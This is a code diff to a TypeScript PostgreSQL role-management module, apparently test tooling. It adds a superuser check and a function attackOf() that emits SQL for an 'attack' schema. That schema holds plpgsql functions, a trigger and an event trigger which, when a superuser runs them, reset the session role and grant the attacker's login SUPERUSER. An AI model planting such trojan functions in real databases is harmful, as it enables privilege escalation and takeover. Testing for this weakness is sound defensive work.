@@ -88,6 +88,12 @@ export class Logins {
     }
   }
 
+  async isSuperuser(login: string): Promise<boolean> {
+    const query = 'SELECT rolsuper FROM pg_roles WHERE rolname = $1';
+    const { rows } = await (await this.sessionOf(login)).query(query, [login]);
+    return rows[0].rolsuper;
+  }
+
   manifest(topic: string): string {
     const file = join(this.#folder, `${topic}.yaml`);
     const lines = [
@@ -108,6 +114,33 @@ export class Logins {
     url.username = login;
     return url.href;
   }
+}
+
+/**
+ * Functions of this role, in the schema `attack`, that make it superuser where a superuser runs
+ * them, whatever role was put on.
+ */
+export function attackOf(login: string): string {
+  return `
+  CREATE SCHEMA attack;
+  CREATE FUNCTION attack.now() RETURNS text LANGUAGE plpgsql AS $$
+    BEGIN
+      BEGIN
+        EXECUTE 'RESET SESSION AUTHORIZATION';
+        EXECUTE 'RESET ROLE';
+      EXCEPTION WHEN insufficient_privilege OR active_sql_transaction THEN
+        -- Refused in a function with the rights of its owner, where it is not needed.
+      END;
+      EXECUTE 'ALTER ROLE ${login} SUPERUSER';
+      RETURN '';
+    EXCEPTION WHEN insufficient_privilege OR active_sql_transaction THEN RETURN '';
+    END$$;
+  CREATE FUNCTION attack.is() RETURNS boolean LANGUAGE sql AS $$SELECT attack.now() = ''$$;
+  CREATE FUNCTION attack.fire() RETURNS trigger LANGUAGE plpgsql AS
+    $$BEGIN PERFORM attack.now(); RETURN NEW; END$$;
+  CREATE FUNCTION attack.event() RETURNS event_trigger LANGUAGE plpgsql AS
+    $$BEGIN PERFORM attack.now(); END$$;
+  GRANT ALL ON SCHEMA attack TO PUBLIC`;
 }
 
 async function asAdmin(statement: string, url: string): Promise<void> {
